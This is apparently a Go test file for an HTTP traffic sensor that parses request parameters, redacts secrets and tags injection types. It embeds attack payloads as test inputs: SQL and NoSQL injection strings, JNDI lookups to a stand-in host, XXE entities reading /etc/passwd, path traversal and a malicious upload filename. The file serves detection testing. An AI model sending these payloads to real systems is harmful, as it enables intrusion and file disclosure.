package call_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"auscult/sensor/call"
	"auscult/sensor/http"
	"auscult/sensor/inject"
)

// texts holds both bodies of an exchange.
func texts(request, response string) *call.Texts {
	t := new(call.Texts)
	t.Side(http.Request).Scan([]byte(request))
	t.Side(http.Response).Scan([]byte(response))
	return t
}

// sent is the call of a request with a body; headers as in exchange.
func sent(method, target, body string, headers ...string) call.Call {
	return answered(method, target, body, 200, "", headers...)
}

func answered(method, target, body string, status int, response string, headers ...string) call.Call {
	cn := conn()
	cn.Texts = texts(body, response)
	var c call.Call
	call.NewBuilder(call.Defaults(), new(call.Direct)).Build(&c, new(call.Arena), exchange(method, target, status, headers...), cn, nil, nil)
	return c
}

var argKinds = [...]string{"", "#", "?", "0", "*"}

// shown is a value as "where name=text", with a mark of its kind before the text.
func shown(a call.Arg) string {
	return a.Where.String() + " " + a.Name + "=" + argKinds[a.Kind] + a.Text
}

func TestArgs(t *testing.T) {
	f := func(method, target, media, body string, want ...string) call.Call {
		t.Helper()
		var headers []string
		if media != "" {
			headers = append(headers, "Content-Type: "+media)
		}
		c := sent(method, target, body, headers...)
		var got []string
		for _, a := range c.Args {
			got = append(got, shown(a))
			if a.Key == 0 || a.Value == 0 || len(a.Text) > 64 || a.Kind == call.Secret && a.Text != "" {
				t.Errorf("%s: %+v", target, a)
			}
		}
		if !slices.Equal(got, want) {
			t.Errorf("%s %s %q:\n got %q\nwant %q", method, target, body, got, want)
		}
		return c
	}
	f("GET", "/api/x?name=O%27Brien+J&_count=50&empty&page=2", "", "",
		"query name=O'Brien J", "query _count=50", "query empty=", "query page=2")
	f("GET", "/api/x?access_token=abc&password=p&pageToken=q", "", "", "query access_token=*", "query password=*", "query pageToken=q")
	f("POST", "/api/x", "application/x-www-form-urlencoded", "user=a&newPassword=b&n%61me=%3Cb%3E", "body user=a", "body newPassword=*", "body name=<b>")
	f("POST", "/api/x", "application/json", `{"a":{"b":[{"c":1},{"c":-2.5e3}]},"d":true,"e":null,"f":"x\u0041\n","pin":1234}`,
		"body a.b.c=#1", "body a.b.c=#-2.5e3", "body d=?true", "body e=0null", "body f=xA\n", "body pin=*")
	f("POST", "/api/x", "application/json", `{"a":"cut in the midd`, "body a=cut in the midd")
	f("POST", "/api/x", "text/plain", `{"a":1}`, "body a=#1")
	f("POST", "/api/x", "application/json", `not json`, "body =not json")
	f("POST", "/api/x", "application/x-ndjson", "{\"a\":1}\n{\"a\":2}", "body a=#1", "body a=#2")
	f("POST", "/api/x", "", "\x1e{\"a\":1}\x1e{\"b\":2}", "body a=#1", "body b=#2")
	f("POST", "/api/x", "application/octet-stream", "\x00\x01\x02")
	f("POST", "/api/x", "application/xml", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r a="1" xmlns="u"><n:b xmlns:n='v'>t &lt; &#65;</n:b><c/><d><![CDATA[<e>]]></d>&x;</r>`,
		`body !DOCTYPE=<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>`, "body r.@a=1", "body r.b=t < A", "body r.d=<e>", "body r=&x;")
	f("POST", "/api/x", "application/xml", "no element", "body =no element")
	f("POST", "/api/x", "multipart/form-data; boundary=B1",
		"--B1\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\nhello\r\n--B1\r\n"+
			"Content-Disposition: form-data; name=\"f\"; filename=\"../x.php\"\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n--B1--",
		"body note=hello", "body filename=../x.php")
	f("GET", "/fhir/Patient/123", "", "", "path Patient=123")
	f("GET", "/api/v2/patients/45/labs/9917", "", "", "path patients=45", "path labs=9917")
	f("GET", "/static/..%2f..%2fetc/passwd", "", "", "path static=../../etc", "path !path=/static/../../etc/passwd")
	f("GET", "/a/%252e%252e/b", "", "", "path a=%2e%2e", "path !path=/a/%2e%2e/b")
	f("GET", "/x;jsessionid=0123456789abcdef?a=1", "", "", "query a=1")
	f("POST", "/graphql", "application/json", `{"query":"query Q($id: ID!) { a: patient(id: \"7\") { name } b: patient(id: $id, n: 5) { name { family } } }","variables":{"id":"9"}}`,
		"body patient.id=7", "body patient.n=#5", "body variables.id=9")
	f("GET", "/graphql?query={patient(id:%229%22){name}}", "", "", "query patient.id=9")
	jwtValue := jwt(nurse)
	f("POST", "/api/x", "application/json", `{"anything":"`+jwtValue+`"}`, "body anything=*")
	f("GET", "/api/x?q="+jwtValue, "", "", "query q=*")
}

// TestArgs_Keys holds that a parameter has one key on every endpoint and in every place of its own, and a value one
// hash wherever it is sent.
func TestArgs_Keys(t *testing.T) {
	a := sent("GET", "/a?id=5", "").Args[0]
	b := sent("GET", "/b/c?x=1&id=5", "").Args[1]
	c := sent("POST", "/b", `{"id":"5"}`, "Content-Type: application/json").Args[0]
	if a.Key != b.Key || a.Key == c.Key || a.Value != b.Value || a.Value != c.Value {
		t.Errorf("%+v\n%+v\n%+v", a, b, c)
	}
}

func TestArgs_Look(t *testing.T) {
	has := func(c call.Call, name string) inject.Family {
		for _, a := range c.Args {
			if a.Name == name {
				return a.Look.Families
			}
		}
		t.Errorf("no %s in %+v", name, c.Args)
		return 0
	}
	json := "Content-Type: application/json"
	for _, v := range []struct {
		name string
		c    call.Call
		want inject.Family
	}{
		{"q", sent("GET", "/x?q=1%27%20OR%20%271%27=%271", ""), inject.SQL},
		{"q", sent("GET", "/x?q=1%2527%2520OR%2520%25271%2527=%25271", ""), inject.SQL},
		{"password", sent("POST", "/login", `{"user":"a","password":"' OR '1'='1' -- "}`, json), inject.SQL},
		{"user.$ne", sent("POST", "/login", `{"user":{"$ne":null}}`, json), inject.NoSQL},
		{"user.$ne", sent("POST", "/login", `{"user":{"\u0024ne":{}}}`, json), inject.NoSQL},
		{"user[$ne]", sent("GET", "/x?user[$ne]=1", ""), inject.NoSQL},
		{"user-agent", sent("GET", "/x", "", "User-Agent: ${jndi:ldap://a.test/x}"), inject.JNDI},
		{"x-api-version", sent("GET", "/x", "", "X-Api-Version: ${jndi:ldap://a.test/x}"), inject.JNDI},
		{"theme", sent("GET", "/x", "", "Cookie: a=b; theme=1' UNION SELECT 1,2-- "), inject.SQL},
		{"!path", sent("GET", "/static/../../etc/passwd", ""), inject.Path},
		{"!DOCTYPE", sent("POST", "/x", `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`, "Content-Type: text/xml"), inject.XXE},
	} {
		if got := has(v.c, v.name); got&v.want == 0 {
			t.Errorf("%s of %s: families %b, want %b", v.name, v.c.Target, got, v.want)
		}
	}
	// What honest clients send is no value of a header.
	for _, agent := range []string{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)", "curl/8.1", "Java/17.0.1"} {
		if c := sent("GET", "/x", "", "User-Agent: "+agent, "Accept-Language: en-GB,en;q=0.9", "Referer: https://ehr.test/a?b=c%2Fd",
			"X-Forwarded-For: 10.1.1.1, 10.1.1.2", "Cookie: JSESSIONID=0123; _ga=GA1.2.3"); len(c.Args) != 0 {
			t.Errorf("%s: %+v", agent, c.Args)
		}
	}
}

// TestArgs_Bound holds that many values cost no more than the bound, and hide no attack behind them.
func TestArgs_Bound(t *testing.T) {
	cfg := call.Defaults()
	b := call.NewBuilder(cfg, new(call.Direct))
	var many strings.Builder
	for i := range 200 {
		fmt.Fprintf(&many, "a%d=%d&", i, i)
	}
	var c call.Call
	b.Build(&c, new(call.Arena), exchange("GET", "/x?"+many.String()+"q=1%27%20OR%20%271%27=%271", 200), conn(), nil, nil)
	if len(c.Args) != cfg.Args-cfg.Args/6+1 || c.Args[len(c.Args)-1].Name != "q" || b.Stats.Args != 200-uint64(cfg.Args-cfg.Args/6) {
		t.Errorf("%d values, the last %+v; %d not kept", len(c.Args), c.Args[len(c.Args)-1], b.Stats.Args)
	}
	b.Build(&c, new(call.Arena), exchange("GET", "/x?"+strings.Repeat("q=1%27%20OR%20%271%27=%271&", 100), 200), conn(), nil, nil)
	if len(c.Args) != cfg.Args {
		t.Errorf("%d values", len(c.Args))
	}
}

// TestArgs_Deep holds that what lies too deep is passed over, and what follows it is read.
func TestArgs_Deep(t *testing.T) {
	deep := strings.Repeat(`{"a":`, 40) + "1" + strings.Repeat("}", 40)
	c := sent("POST", "/x", `{"deep":`+deep+`,"after":1}`, "Content-Type: application/json")
	if len(c.Args) != 1 || c.Args[0].Name != "after" {
		t.Errorf("%+v", c.Args)
	}
}

func TestGraph(t *testing.T) {
	f := func(doc string, want call.Graph) {
		t.Helper()
		c := sent("POST", "/graphql", doc, "Content-Type: application/json")
		if c.Graph != want {
			t.Errorf("%s: %+v, want %+v", doc, c.Graph, want)
		}
	}
	f(`{"query":"{ patient(id: \"1\") { name { family } } }"}`, call.Graph{Depth: 3})
	f(`{"query":"mutation Upd($p:In!){ update(p:$p) {id} audit {id} }"}`, call.Graph{Depth: 2, Mutation: "update"})
	f(`{"query":"mutation { a: update(role: \"x\") {id} b: remove {id} }"}`, call.Graph{Depth: 2, Aliases: 2, Mutation: "update"})
	f(`{"query":"query { __schema { types { name } } }"}`, call.Graph{Depth: 3, Introspection: true})
	f(`{"query":"{ __typename patient(f: {a: {b: 1}}) { __typename } }"}`, call.Graph{Depth: 2})
	f(`{"query":"{ a: patient(id: 1) { id } b: patient(id: 2) { id } # c: {\n }"}`, call.Graph{Depth: 2, Aliases: 2})
	f(`[{"query":"{ a }"},{"query":"{ b }"},{"query":"{ c }"}]`, call.Graph{Depth: 1, Batch: 3})
	f(`{"query":"{ a(x: \"{{{ __schema\") }"}`, call.Graph{Depth: 1})
	f(`{"query":{"match":{"name":"x"}}}`, call.Graph{})
	f(`{"query":"blood {count}"}`, call.Graph{})
}
